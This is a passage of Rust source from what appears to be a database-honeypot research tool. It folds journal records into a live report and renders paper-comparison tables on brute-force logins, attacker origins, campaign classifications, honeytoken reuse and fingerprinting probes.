                .saturating_add(batch.records_dropped);
            stats.bytes_truncated = stats.bytes_truncated.saturating_add(batch.bytes_truncated);
            continue;
        }
        if !batch.header_ok {
            stats.bytes_truncated = stats.bytes_truncated.saturating_add(batch.bytes_truncated);
            let torn_header = matches!(
                batch.error.as_ref().map(|e| &e.kind),
                Some(JournalErrorKind::HeaderTruncated { .. })
            );
            // a truncated header on the final segment is a crash caught
            // between segment creation and the first flush
            if !(is_final && torn_header) && stats.error.is_none() {
                stats.error = batch.error;
            }
            halted = true;
            continue;
        }
        if batch.first_seq != partial.next_seq() {
            if stats.error.is_none() {
                stats.error = Some(JournalError {
                    segment: batch.index,
                    offset: 8,
                    kind: JournalErrorKind::SequenceGap {
                        expected: partial.next_seq(),
                        found: batch.first_seq,
                    },
                });
            }
            stats.records_dropped = stats
                .records_dropped
                .saturating_add(batch.events.len() as u64)
                .saturating_add(batch.records_dropped);
            stats.bytes_truncated = stats.bytes_truncated.saturating_add(batch.bytes_truncated);
            halted = true;
            continue;
        }
        for event in &batch.events {
            partial.push(event, enricher);
        }
        stats.records_kept = stats.records_kept.saturating_add(batch.events.len() as u64);
        stats.records_dropped = stats.records_dropped.saturating_add(batch.records_dropped);
        stats.bytes_truncated = stats.bytes_truncated.saturating_add(batch.bytes_truncated);
        if batch.error.is_some() {
            if stats.error.is_none() {
                stats.error = batch.error;
            }
            halted = true;
            continue;
        }
        if let Some(torn) = batch.torn {
            if !is_final {
                if stats.error.is_none() {
                    stats.error = Some(torn);
                }
                halted = true;
            }
        }
    }
    (partial, stats)
}

/// First hole in a merged frame's sequence coverage, as `(expected, found)`
/// — `None` when the runs cover a contiguous range starting at 0.
fn coverage_gap(ranges: &[(u64, u64)]) -> Option<(u64, u64)> {
    let mut expected = 0u64;
    for &(start, end) in ranges {
        if start != expected {
            return Some((expected, start));
        }
        expected = end;
    }
    None
}

// ---------------------------------------------------------------------------
// Live report
// ---------------------------------------------------------------------------

/// A live, incrementally folded report over a journal directory that is
/// still being written — report-as-you-ingest.
///
/// Each [`poll`](LiveReport::poll) drains the records the journal has
/// completed since the last poll (via [`JournalTail`], which never reads a
/// frame that could still be half-written) into a running [`PartialFrame`];
/// [`render`](LiveReport::render) seals a snapshot of the fold and renders
/// the full report from it, so a reader can re-render every N seconds while
/// the experiment is still running. Once the writer has closed the journal
/// and a final poll has drained it, the rendered report is byte-identical
/// to [`Report::from_journal_streaming`] over the finished directory.
pub struct LiveReport {
    scale: f64,
    bait: Vec<(String, String)>,
    enricher: GeoEnricher,
    tail: JournalTail,
    partial: PartialFrame,
    events_seen: u64,
}

impl LiveReport {
    /// Open a live view over `dir`. Infallible: a directory that does not
    /// exist yet simply has nothing to fold until the writer creates it.
    pub fn open(config: &ExperimentConfig, dir: impl AsRef<std::path::Path>) -> LiveReport {
        let plan =
            DeploymentPlan::scaled_with(config.seed, config.deployment_scale, config.extensions);
        LiveReport {
            scale: config.scale,
            bait: fake_data_bait(&plan),
            enricher: GeoEnricher::new(GeoDb::builtin()),
            tail: JournalTail::open(dir),
            partial: PartialFrame::new(0),
            events_seen: 0,
        }
    }

    /// Drain every record the journal has completed since the last poll
    /// into the running fold; returns how many events were folded. An `Err`
    /// is a transient I/O failure (retry later); journal damage parks the
    /// tail permanently and surfaces in [`journal_error`](Self::journal_error).
    pub fn poll(&mut self) -> std::io::Result<usize> {
        let events = self.tail.poll()?;
        for event in &events {
            self.partial.push(event, &self.enricher);
        }
        self.events_seen = self.events_seen.saturating_add(events.len() as u64);
        Ok(events.len())
    }

    /// Seal a snapshot of the current fold and render the full report from
    /// it. The running fold is untouched, so polling can continue.
    pub fn render(&self) -> Report {
        let frame = self.partial.clone().seal();
        Report {
            sections: render_sections(&frame, self.scale, &self.bait, None),
        }
    }

    /// Total events folded so far.
    pub fn events_seen(&self) -> u64 {
        self.events_seen
    }

    /// The journal damage the tail has parked on (sticky), if any.
    pub fn journal_error(&self) -> Option<&JournalError> {
        self.tail.error()
    }
}

// ---------------------------------------------------------------------------
// Section 5 summary
// ---------------------------------------------------------------------------

fn fmt_sec5_summary(
    scan: &tables::ScanningSummary,
    brute: &tables::BruteforceSummary,
    scale: f64,
) -> Section {
    let mssql = brute.per_dbms.get(&Dbms::Mssql).copied().unwrap_or(0);
    let mut body = String::new();
    let _ = writeln!(body, "scale factor: {scale}");
    let _ = writeln!(
        body,
        "unique source IPs: {} (paper: 3,340 × scale = {:.0})",
        scan.unique_ips,
        3340.0 * scale
    );
    let _ = writeln!(
        body,
        "institutional sources: {} (paper: 1,468; share {:.1}% vs paper 44%)",
        scan.institutional_ips,
        100.0 * scan.institutional_ips as f64 / scan.unique_ips.max(1) as f64
    );
    for (country, n) in scan.country_counts.iter().take(3) {
        let _ = writeln!(
            body,
            "  {country}: {n} sources ({:.1}%)",
            100.0 * *n as f64 / scan.unique_ips.max(1) as f64
        );
    }
    let _ = writeln!(
        body,
        "login attempts: {} total, {} MSSQL ({:.2}%; paper: 18,162,811 total, 99.53% MSSQL)",
        brute.total_logins,
        mssql,
        100.0 * mssql as f64 / brute.total_logins.max(1) as f64
    );
    let _ = writeln!(body, "brute-force clients: {} (paper: 599)", brute.clients);
    // the paper's "average number of brute-force attempts per client"
    // divides by the full client population (18,162,811 / 3,380 ≈ 5,373)
    let _ = writeln!(
        body,
        "attempts per client (all clients): {:.0} (paper: 5,373); per brute-forcer: {:.0}",
        brute.total_logins as f64 / scan.unique_ips.max(1) as f64,
        brute.avg_attempts_per_client
    );
    Section {
        id: "Section 5".into(),
        title: "low-interaction headline statistics".into(),
        body,
    }
}

fn sec5_summary(low: &Arc<EventStore>, geo: &decoy_geo::GeoDb, scale: f64) -> Section {
    fmt_sec5_summary(
        &tables::scanning_summary(low, geo),
        &tables::bruteforce_summary(low),
        scale,
    )
}

fn sec5_summary_frame(low: FrameView<'_>, scale: f64) -> Section {
    fmt_sec5_summary(
        &tables::scanning_summary_view(low),
        &tables::bruteforce_summary_view(low),
        scale,
    )
}

// ---------------------------------------------------------------------------
// Figures 2, 6–9
// ---------------------------------------------------------------------------

fn fmt_fig2(series: &HourlySeries, id: &str, what: &str) -> Section {
    let mut body = String::new();
    let _ = writeln!(
        body,
        "clients/hour mean: {:.1}   new clients/hour mean: {:.2}   total unique: {}",
        series.mean_clients_per_hour(),
        series.mean_new_clients_per_hour(),
        series.total_unique_clients()
    );
    body.push_str(&sparkline(
        &series
            .buckets
            .iter()
            .map(|b| b.unique_clients as f64)
            .collect::<Vec<_>>(),
        80,
    ));
    body.push('\n');
    Section {
        id: id.into(),
        title: format!("hourly client IPs, {what}"),
        body,
    }
}

fn fig2(low: &Arc<EventStore>, dbms: Option<Dbms>, id: &str, what: &str) -> Section {
    fmt_fig2(&hourly_series(low, dbms, EXPERIMENT_START, 480), id, what)
}

fn fig2_frame(low: FrameView<'_>, dbms: Option<Dbms>, id: &str, what: &str) -> Section {
    fmt_fig2(
        &hourly_series_view(low, dbms, EXPERIMENT_START, 480),
        id,
        what,
    )
}

// ---------------------------------------------------------------------------
// Figure 3
// ---------------------------------------------------------------------------

/// Retention per DBMS in Figure 3's panel order, plus the combined map.
const FIG3_DBMS: [Dbms; 4] = [Dbms::MySql, Dbms::Postgres, Dbms::Redis, Dbms::Mssql];

fn fmt_fig3(
    per_dbms: &[(Dbms, BTreeMap<IpAddr, usize>)],
    all: &BTreeMap<IpAddr, usize>,
) -> Section {
    let mut body = String::new();
    for (dbms, retention) in per_dbms {
        let ecdf = Ecdf::new(retention.values().map(|&d| d as f64).collect());
        let _ = writeln!(
            body,
            "{:<11} n={:<5} P(days<=1)={:.2} P(<=3)={:.2} P(<=10)={:.2}",
            dbms.label(),
            ecdf.len(),
            ecdf.eval(1.0),
            ecdf.eval(3.0),
            ecdf.eval(10.0)
        );
    }
    let _ = writeln!(
        body,
        "single-day fraction (all low): {:.2} (paper: 0.43)",
        single_day_fraction(all)
    );
    Section {
        id: "Figure 3".into(),
        title: "client retention CDF, low interaction".into(),
        body,
    }
}

fn fig3(low: &Arc<EventStore>) -> Section {
    let per: Vec<(Dbms, BTreeMap<IpAddr, usize>)> = FIG3_DBMS
        .iter()
        .map(|&d| (d, retention_days(low, Some(d), EXPERIMENT_START)))
        .collect();
    fmt_fig3(&per, &retention_days(low, None, EXPERIMENT_START))
}

fn fig3_frame(low: FrameView<'_>) -> Section {
    let per: Vec<(Dbms, BTreeMap<IpAddr, usize>)> = FIG3_DBMS
        .iter()
        .map(|&d| (d, retention_days_view(low, Some(d), EXPERIMENT_START)))
        .collect();
    fmt_fig3(&per, &retention_days_view(low, None, EXPERIMENT_START))
}

// ---------------------------------------------------------------------------
// Tables 5–7, 12
// ---------------------------------------------------------------------------

fn fmt_table5(rows: Vec<tables::CountryLoginRow>) -> Section {
    let mut body = format!(
        "{:<8} {:>12} {:>11} {:>9} {:>9} {:>12}\n",
        "Country", "#Logins", "#IP/Total", "#MySQL", "#PSQL", "#MSSQL"
    );
    for row in rows.iter().take(10) {
        let _ = writeln!(
            body,
            "{:<8} {:>12} {:>5}/{:<5} {:>9} {:>9} {:>12}",
            row.country,
            row.logins,
            row.ips_with_logins,
            row.ips_total,
            row.per_dbms.get(&Dbms::MySql).copied().unwrap_or(0),
            row.per_dbms.get(&Dbms::Postgres).copied().unwrap_or(0),
            row.per_dbms.get(&Dbms::Mssql).copied().unwrap_or(0),
        );
    }
    body.push_str("paper top-3 by volume: RU (16.6M), CN (884k), EE (161k)\n");
    Section {
        id: "Table 5".into(),
        title: "top countries by login attempts".into(),
        body,
    }
}

fn fmt_table6(rows: Vec<tables::AsnRow>) -> Section {
    let mut body = format!(
        "{:<45} {:>6} {:>8} {:>10} {:>8} {:>10}\n",
        "AS", "#IPs", "share%", "#Logins", "MySQL", "MSSQL"
    );
    for row in rows.iter().filter(|r| r.asn != 0).take(10) {
        let _ = writeln!(
            body,
            "{:<45} {:>6} {:>7.2}% {:>10} {:>8} {:>10}",
            format!("{} (AS{})", row.name, row.asn),
            row.ips,
            100.0 * row.share,
            row.logins,
            row.per_dbms.get(&Dbms::MySql).copied().unwrap_or(0),
            row.per_dbms.get(&Dbms::Mssql).copied().unwrap_or(0),
        );
    }
    body.push_str(
        "paper top-3 by IPs: HURRICANE 19.25%, GOOGLE-CLOUD 16.77%, DIGITALOCEAN 11.74%\n",
    );
    Section {
        id: "Table 6".into(),
        title: "top ASes by IP count with login distribution".into(),
        body,
    }
}

fn fmt_table7(counts: BTreeMap<decoy_geo::AsType, usize>) -> Section {
    let mut body = format!("{:<12} {:>8}\n", "Category", "IPs");
    let mut rows: Vec<_> = counts.iter().collect();
    rows.sort_by(|a, b| b.1.cmp(a.1));
    for (t, n) in rows {
        let _ = writeln!(body, "{:<12} {:>8}", t.label(), n);
    }
    body.push_str("paper: Hosting 286, Telecom 103, Unknown 148 lead the table\n");
    Section {
        id: "Table 7".into(),
        title: "#IPs by AS type that attempted logins".into(),
        body,
    }
}

fn fmt_table12(stats: tables::CredentialStats) -> Section {
    let mut body = format!(
        "{:<16} {:>9}   {:<16} {:>9}\n",
        "Username", "count", "Password", "count"
    );
    for i in 0..10 {
        let u = stats
            .top_usernames
            .get(i)
            .map(|(u, n)| (u.as_str(), *n))
            .unwrap_or(("-", 0));
        let p = stats
            .top_passwords
            .get(i)
            .map(|(p, n)| (p.as_str(), *n))
            .unwrap_or(("-", 0));
        let password_display = if p.0.is_empty() { "\"\"" } else { p.0 };
        let _ = writeln!(
            body,
            "{:<16} {:>9}   {:<16} {:>9}",
            u.0, u.1, password_display, p.1
        );
    }
    let _ = writeln!(
        body,
        "unique combos: {}  usernames: {}  passwords: {} (paper: 240,131 / 14,540 / 226,961)",
        stats.unique_combinations, stats.unique_usernames, stats.unique_passwords
    );
    body.push_str("paper top username: sa; top pairs: sa/123, admin/123456, hbv7/\"\"\n");
    Section {
        id: "Table 12".into(),
        title: "top MSSQL usernames and passwords".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Figure 4
// ---------------------------------------------------------------------------

fn fmt_fig4(u: UpSet) -> Section {
    let mut body = format!(
        "sources: {} total, {} exclusive to one family, {} on several\n",
        u.total(),
        u.exclusive_total(),
        u.multi_total()
    );
    for (combo, n) in u.sorted().into_iter().take(12) {
        let label: Vec<&str> = combo.iter().map(|d| d.label()).collect();
        let _ = writeln!(body, "{:>6}  {}", n, label.join(" ∩ "));
    }
    let _ = writeln!(body, "set sizes:");
    for (dbms, n) in &u.set_sizes {
        let _ = writeln!(body, "  {:<11} {}", dbms.label(), n);
    }
    body.push_str("paper: PostgreSQL 1,955 > Elastic 1,237 ≳ MongoDB 1,233 > Redis 980; most IPs hit one family\n");
    Section {
        id: "Figure 4".into(),
        title: "intersection of IPs across medium/high honeypots".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Table 8
// ---------------------------------------------------------------------------

fn table8_data(med_high: &Arc<EventStore>) -> Vec<(Dbms, ClassCounts, usize)> {
    MED_HIGH_FAMILIES
        .iter()
        .map(|&dbms| {
            let profiles = classify_sources(med_high, Some(dbms));
            let counts = ClassCounts::from_profiles(profiles.values());
            let mut clusters = cluster_sources(med_high, Some(dbms), CLUSTER_CUT);
            refine_by_behavior(&mut clusters, &profiles);
            (dbms, counts, clusters.num_clusters)
        })
        .collect()
}

fn table8_data_frame(mh: FrameView<'_>) -> Vec<(Dbms, ClassCounts, usize)> {
    MED_HIGH_FAMILIES
        .iter()
        .map(|&dbms| {
            let profiles = classify_view(mh, Some(dbms));
            let counts = ClassCounts::from_profiles(profiles.values());
            let mut clusters = cluster_view(mh, Some(dbms), CLUSTER_CUT);
            refine_by_behavior(&mut clusters, &profiles);
            (dbms, counts, clusters.num_clusters)
        })
        .collect()
}

fn fmt_table8(data: Vec<(Dbms, ClassCounts, usize)>) -> Section {
    let mut body = format!(
        "{:<11} {:>6} {:>10} {:>10} {:>11} {:>7}\n",
        "DBMS", "#IP", "Scanning", "Scouting", "Exploiting", "#Cls."
    );
    let paper: BTreeMap<Dbms, (usize, usize, usize, usize, usize)> = [
        (Dbms::Elastic, (1237, 608, 627, 2, 60)),
        (Dbms::MongoDb, (1233, 706, 465, 62, 30)),
        (Dbms::Postgres, (1955, 1140, 593, 222, 79)),
        (Dbms::Redis, (980, 676, 266, 38, 26)),
    ]
    .into_iter()
    .collect();
    for (dbms, counts, num_clusters) in data {
        let p = paper[&dbms];
        let _ = writeln!(
            body,
            "{:<11} {:>6} {:>10} {:>10} {:>11} {:>7}   paper: {} IPs ({}/{}/{}), {} cls",
            dbms.label(),
            counts.total(),
            counts.scanning,
            counts.scouting,
            counts.exploiting,
            num_clusters,
            p.0,
            p.1,
            p.2,
            p.3,
            p.4
        );
    }
    Section {
        id: "Table 8".into(),
        title: "classification and clusters per medium/high family".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Table 9
// ---------------------------------------------------------------------------

type Table9Data = Vec<(Dbms, BTreeMap<CampaignTag, (usize, BTreeSet<usize>)>)>;

fn table9_rollup(
    tags: BTreeMap<IpAddr, Vec<CampaignTag>>,
    assignments: &BTreeMap<IpAddr, usize>,
) -> BTreeMap<CampaignTag, (usize, BTreeSet<usize>)> {
    let mut per_tag: BTreeMap<CampaignTag, (usize, BTreeSet<usize>)> = BTreeMap::new();
    for (src, src_tags) in &tags {
        for tag in src_tags {
            let entry = per_tag.entry(*tag).or_default();
            entry.0 += 1;
            if let Some(label) = assignments.get(src) {
                entry.1.insert(*label);
            }
        }
    }
    per_tag
}

fn table9_data(med_high: &Arc<EventStore>) -> Table9Data {
    MED_HIGH_FAMILIES
        .iter()
        .map(|&dbms| {
            let tags = tag_sources(med_high, Some(dbms));
            let clusters = cluster_sources(med_high, Some(dbms), CLUSTER_CUT);
            (dbms, table9_rollup(tags, &clusters.assignments))
        })
        .collect()
}

fn table9_data_frame(mh: FrameView<'_>) -> Table9Data {
    MED_HIGH_FAMILIES
        .iter()
        .map(|&dbms| {
            let tags = tag_sources_view(mh, Some(dbms));
            let clusters = cluster_view(mh, Some(dbms), CLUSTER_CUT);
            (dbms, table9_rollup(tags, &clusters.assignments))
        })
        .collect()
}

fn fmt_table9(data: Table9Data) -> Section {
    let mut body = format!(
        "{:<28} {:<11} {:>6} {:>6}\n",
        "Attack", "Honeypot", "#IP", "#Cls"
    );
    // paper (tag, dbms) → #IPs
    let paper: BTreeMap<(CampaignTag, Dbms), usize> = [
        ((CampaignTag::RdpScan, Dbms::Redis), 14),
        ((CampaignTag::JdwpScan, Dbms::Redis), 2),
        ((CampaignTag::RdpScan, Dbms::Postgres), 164),
        ((CampaignTag::CraftCmsProbe, Dbms::Elastic), 2),
        ((CampaignTag::VmwareRecon, Dbms::Elastic), 15),
        ((CampaignTag::BruteForce, Dbms::Redis), 5),
        ((CampaignTag::BruteForce, Dbms::Postgres), 84),
        ((CampaignTag::PrivilegeManipulation, Dbms::Postgres), 25),
        ((CampaignTag::MongoRansom, Dbms::MongoDb), 62),
        ((CampaignTag::P2pInfect, Dbms::Redis), 35),
        ((CampaignTag::AbcBot, Dbms::Redis), 1),
        ((CampaignTag::Kinsing, Dbms::Postgres), 196),
        ((CampaignTag::Lucifer, Dbms::Elastic), 2),
        ((CampaignTag::RedisCve20220543, Dbms::Redis), 1),
    ]
    .into_iter()
    .collect();
    for (dbms, per_tag) in data {
        for (tag, (ips, cluster_set)) in per_tag {
            let paper_note = paper
                .get(&(tag, dbms))
                .map(|n| format!("   paper: {n} IPs"))
                .unwrap_or_default();
            let _ = writeln!(
                body,
                "{:<28} {:<11} {:>6} {:>6}{}",
                tag.label(),
                dbms.label(),
                ips,
                cluster_set.len(),
                paper_note
            );
        }
    }
    Section {
        id: "Table 9".into(),
        title: "honeypot attacks by type".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Tables 10, 11
// ---------------------------------------------------------------------------

fn fmt_table10(rows: Vec<tables::ExploitCountryRow>) -> Section {
    let mut body = format!(
        "{:<9} {:>5} {:>8} {:>8} {:>6} {:>6}\n",
        "Country", "#IP", "Elastic", "MongoDB", "PSQL", "Redis"
    );
    for row in rows.iter().take(10) {
        let _ = writeln!(
            body,
            "{:<9} {:>5} {:>8} {:>8} {:>6} {:>6}",
            row.country,
            row.ips,
            row.per_dbms.get(&Dbms::Elastic).copied().unwrap_or(0),
            row.per_dbms.get(&Dbms::MongoDb).copied().unwrap_or(0),
            row.per_dbms.get(&Dbms::Postgres).copied().unwrap_or(0),
            row.per_dbms.get(&Dbms::Redis).copied().unwrap_or(0),
        );
    }
    body.push_str("paper top-3: US 52 (39 PSQL), CN 45 (22 PSQL, 21 Redis), BG 32 (29 MongoDB)\n");
    Section {
        id: "Table 10".into(),
        title: "exploiting IPs by country and family".into(),
        body,
    }
}

fn fmt_table11(t: BTreeMap<decoy_geo::AsType, BTreeMap<Behavior, usize>>) -> Section {
    let mut body = format!(
        "{:<12} {:>9} {:>9} {:>11}\n",
        "AS Type", "Scanning", "Scouting", "Exploiting"
    );
    for (as_type, per_behavior) in &t {
        let _ = writeln!(
            body,
            "{:<12} {:>9} {:>9} {:>11}",
            as_type.label(),
            per_behavior.get(&Behavior::Scanning).copied().unwrap_or(0),
            per_behavior.get(&Behavior::Scouting).copied().unwrap_or(0),
            per_behavior
                .get(&Behavior::Exploiting)
                .copied()
                .unwrap_or(0),
        );
    }
    body.push_str(
        "paper: Hosting dominates exploitation (264); Security ASes show zero exploiting\n",
    );
    Section {
        id: "Table 11".into(),
        title: "AS type × behavior class".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Figure 5
// ---------------------------------------------------------------------------

fn fmt_fig5(
    profiles: &BTreeMap<IpAddr, BehaviorProfile>,
    retention: &BTreeMap<IpAddr, usize>,
) -> Section {
    let mut per_class: BTreeMap<Behavior, Vec<f64>> = BTreeMap::new();
    for (src, profile) in profiles {
        if let Some(days) = retention.get(src) {
            per_class
                .entry(profile.primary())
                .or_default()
                .push(*days as f64);
        }
    }
    let mut body = String::new();
    let mut medians: BTreeMap<Behavior, f64> = BTreeMap::new();
    for (class, samples) in per_class {
        let ecdf = Ecdf::new(samples);
        let median = ecdf.quantile(0.5).unwrap_or(0.0);
        medians.insert(class, median);
        let _ = writeln!(
            body,
            "{:<11} n={:<5} median days={:<4} P(<=1)={:.2} P(<=5)={:.2} P(<=15)={:.2}",
            class.label(),
            ecdf.len(),
            median,
            ecdf.eval(1.0),
            ecdf.eval(5.0),
            ecdf.eval(15.0)
        );
    }
    let ordered = medians.get(&Behavior::Exploiting).copied().unwrap_or(0.0)
        >= medians.get(&Behavior::Scanning).copied().unwrap_or(0.0);
    let _ = writeln!(
        body,
        "exploiters most persistent: {} (paper: yes)",
        if ordered { "yes" } else { "no" }
    );
    Section {
        id: "Figure 5".into(),
        title: "retention CDF by behavior class, medium/high".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Section 5 control group
// ---------------------------------------------------------------------------

fn fmt_sec5_control(s: tables::ControlGroupSummary) -> Section {
    let mut body = String::new();
    let _ = writeln!(
        body,
        "single-service IPs: {}   multi-service IPs: {}   overlap: {}",
        s.single_ips, s.multi_ips, s.overlap
    );
    let _ = writeln!(
        body,
        "brute-forcers exclusive to single: {}   exclusive to multi: {}",
        s.brute_single_only, s.brute_multi_only
    );
    body.push_str(
        "paper: 1,720 single / 3,163 multi / 1,543 overlap; 41 vs 295 exclusive brute-forcers
",
    );
    Section {
        id: "Section 5 control".into(),
        title: "multi- vs single-service control group".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Section 6 config effects
// ---------------------------------------------------------------------------

fn sec6_config_data(store: &Arc<EventStore>) -> (u64, u64, usize) {
    let mut open = 0u64;
    let mut restricted = 0u64;
    let mut type_walks = 0usize;
    store.fold((), |(), e| {
        if e.honeypot.dbms == Dbms::Postgres
            && e.honeypot.level == InteractionLevel::Medium
            && matches!(e.kind, EventKind::LoginAttempt { .. })
        {
            match e.honeypot.config {
                ConfigVariant::LoginDisabled => restricted += 1,
                _ => open += 1,
            }
        }
        if e.honeypot.dbms == Dbms::Redis
            && e.honeypot.config == ConfigVariant::FakeData
            && matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("TYPE "))
        {
            type_walks += 1;
        }
    });
    (open, restricted, type_walks)
}

fn sec6_config_data_frame(all: FrameView<'_>) -> (u64, u64, usize) {
    let mut open = 0u64;
    let mut restricted = 0u64;
    let mut type_walks = 0usize;
    for e in all.events() {
        if e.honeypot.dbms == Dbms::Postgres
            && e.honeypot.level == InteractionLevel::Medium
            && matches!(e.kind, FrameKind::LoginAttempt { .. })
        {
            match e.honeypot.config {
                ConfigVariant::LoginDisabled => restricted += 1,
                _ => open += 1,
            }
        }
        if e.honeypot.dbms == Dbms::Redis
            && e.honeypot.config == ConfigVariant::FakeData
            && matches!(&e.kind, FrameKind::Command { raw, .. } if raw.starts_with("TYPE "))
        {
            type_walks += 1;
        }
    }
    (open, restricted, type_walks)
}

fn fmt_sec6_config((open, restricted, type_walks): (u64, u64, usize)) -> Section {
    let ratio = restricted as f64 / open.max(1) as f64;
    let mut body = String::new();
    let _ = writeln!(
        body,
        "medium PG logins: open config {open}, restricted {restricted} (ratio {ratio:.2}; paper 29,217 / 14,084 = 2.07)"
    );
    let _ = writeln!(
        body,
        "TYPE-walk commands on fake-data Redis: {type_walks} (paper: behavior unique to fake-data config)"
    );
    Section {
        id: "Section 6 config".into(),
        title: "honeypot configuration effects".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Section 6 fake-data knowledge
// ---------------------------------------------------------------------------

/// Collect the bait planted across all fake-data Redis instances. Takes the
/// deployment plan rather than a run result so the journal-streaming paths —
/// which reconstruct the plan deterministically from the config — can share
/// it.
fn fake_data_bait(plan: &DeploymentPlan) -> Vec<(String, String)> {
    let mut bait: Vec<(String, String)> = Vec::new();
    for inst in &plan.instances {
        if inst.id.dbms == Dbms::Redis && inst.id.config == ConfigVariant::FakeData {
            bait.extend(crate::deployment::fake_redis_entries(inst.seed));
        }
    }
    bait
}

fn fmt_sec6_fake_data(report: &HoneytokenReport) -> Section {
    let mut body = String::new();
    let _ = writeln!(
        body,
        "bait credentials planted: {}   sources exhibiting knowledge: {}   reuse attempts: {}",
        report.bait_planted,
        report.knowing_sources.len(),
        report.reuse_attempts
    );
    for (src, knowledge) in report.knowing_sources.iter().take(8) {
        let sites: Vec<&str> = knowledge.reuse_sites.iter().map(|d| d.label()).collect();
        let _ = writeln!(
            body,
            "  {src}: harvested {} keys, reused {} passwords on {}",
            knowledge.harvested_keys.len(),
            knowledge.reused_passwords.len(),
            sites.join("/")
        );
    }
    body.push_str(
        "paper objective (§4.2): assess whether adversaries exhibit knowledge of the data
",
    );
    Section {
        id: "Section 6 fake data".into(),
        title: "bait-data knowledge (honeytoken tripwire)".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Section 6 intel
// ---------------------------------------------------------------------------

fn fmt_sec6_intel(
    noisy: &BTreeSet<IpAddr>,
    exploiters: BTreeMap<IpAddr, BehaviorProfile>,
) -> Section {
    let feeds = IntelFeed::paper_feeds();
    let brute_pop: BTreeMap<IpAddr, BehaviorProfile> = noisy
        .iter()
        .map(|&ip| {
            (
                ip,
                BehaviorProfile {
                    scanning: true,
                    scouting: true,
                    exploiting: false,
                },
            )
        })
        .collect();
    let brute_cov = coverage(&feeds, &brute_pop, |_| true);
    let exploit_cov = coverage(&feeds, &exploiters, |ip| noisy.contains(&ip));
    let mut body = format!(
        "{:<12} {:>22} {:>22}\n",
        "Feed", "brute-forcers listed", "exploiters listed"
    );
    for (b, e) in brute_cov.iter().zip(&exploit_cov) {
        let _ = writeln!(
            body,
            "{:<12} {:>14} ({:>5.1}%) {:>14} ({:>5.1}%)",
            b.feed,
            b.listed,
            100.0 * b.fraction(),
            e.listed,
            100.0 * e.fraction()
        );
    }
    body.push_str("paper: greynoise 21%/11%, abuseipdb 65%/15%, team-cymru 48%/2%, feodo 0/0\n");
    Section {
        id: "Section 6 intel".into(),
        title: "threat-intelligence coverage gap".into(),
        body,
    }
}

fn sec6_intel(low: &Arc<EventStore>, med_high: &Arc<EventStore>) -> Section {
    // noisy set: sources that brute-forced the low fleet
    let noisy: BTreeSet<IpAddr> = low
        .filter(|e| matches!(e.kind, EventKind::LoginAttempt { .. }))
        .into_iter()
        .map(|e| e.src)
        .collect();
    let exploiters: BTreeMap<_, _> = classify_sources(med_high, None)
        .into_iter()
        .filter(|(_, p)| p.exploiting)
        .collect();
    fmt_sec6_intel(&noisy, exploiters)
}

fn sec6_intel_frame(low: FrameView<'_>, mh: FrameView<'_>) -> Section {
    let noisy: BTreeSet<IpAddr> = low
        .events()
        .filter(|e| matches!(e.kind, FrameKind::LoginAttempt { .. }))
        .map(|e| e.src)
        .collect();
    let exploiters: BTreeMap<_, _> = classify_view(mh, None)
        .into_iter()
        .filter(|(_, p)| p.exploiting)
        .collect();
    fmt_sec6_intel(&noisy, exploiters)
}

// ---------------------------------------------------------------------------
// Detectability (§7 arms race)
// ---------------------------------------------------------------------------

fn sec_detectability(store: &EventStore) -> Section {
    let mut rows: BTreeMap<&'static str, (BTreeSet<IpAddr>, u64)> = BTreeMap::new();
    for e in store.filter(|e| {
        matches!(&e.kind, EventKind::Command { raw, .. }
            if decoy_analysis::detect::is_fingerprint_probe(raw))
    }) {
        let entry = rows.entry(e.honeypot.dbms.label()).or_default();
        entry.0.insert(e.src);
        entry.1 = entry.1.saturating_add(1);
    }
    fmt_detectability(&rows)
}

fn sec_detectability_frame(all: FrameView<'_>) -> Section {
    let mut rows: BTreeMap<&'static str, (BTreeSet<IpAddr>, u64)> = BTreeMap::new();
    for e in all.events() {
        if let FrameKind::Command { raw, .. } = &e.kind {
            if decoy_analysis::detect::is_fingerprint_probe(raw) {
                let entry = rows.entry(e.honeypot.dbms.label()).or_default();
                entry.0.insert(e.src);
                entry.1 = entry.1.saturating_add(1);
            }
        }
    }
    fmt_detectability(&rows)
}

/// The defender's half of the fingerprinting arms race: which families the
/// anti-honeypot probe battery touched, from how many sources. The
/// offensive half — how detectable *our* fleet is — lives in the
/// `fingerprint_scorecard` binary and its ratcheted baseline.
fn fmt_detectability(rows: &BTreeMap<&'static str, (BTreeSet<IpAddr>, u64)>) -> Section {
    let mut body = String::new();
    if rows.is_empty() {
        body.push_str("no fingerprinting probes observed\n");
    } else {
        let _ = writeln!(body, "{:<14} {:>8} {:>8}", "Family", "sources", "probes");
        for (family, (sources, probes)) in rows {
            let _ = writeln!(body, "{:<14} {:>8} {:>8}", family, sources.len(), probes);
        }
    }
    body.push_str("fleet surface: see FINGERPRINT_BASELINE.json (fingerprint_scorecard --check)\n");
    Section {
        id: "Detectability".into(),
        title: "Fingerprinting probes observed and fleet surface (§7)".into(),
        body,
    }
}

// ---------------------------------------------------------------------------
// Fleet health
// ---------------------------------------------------------------------------

/// Format the supervised-fleet uptime table from pre-folded rows plus the
/// optional final snapshot. The frame path folds the rows from the frame's
/// carried health events ([`AnalysisFrame::health_events`]); the legacy
/// path folds them from the store via [`sec_fleet`]. Both render
/// identically.
fn fmt_fleet(rows: Vec<ListenerUptime>, fleet: Option<&FleetHealth>) -> Section {
    let totals = fleet_totals(&rows);
    let mut body = String::new();
    match fleet {
        Some(fleet) => {
            let _ = writeln!(body, "final snapshot: {}", fleet.summary());
        }
        None => body.push_str("direct mode: no supervised listeners\n"),
    }
    if rows.is_empty() {
        body.push_str("no health transitions logged (fault-free run)\n");
    } else {
        let _ = writeln!(
            body,
            "{:<34} {:>11} {:>8} {:>4} {:>8}  final state",
            "Honeypot", "transitions", "degraded", "down", "restarts"
        );
        for row in &rows {
            let id = row.honeypot;
            let _ = writeln!(
                body,
                "{:<34} {:>11} {:>8} {:>4} {:>8}  {}",
                format!(
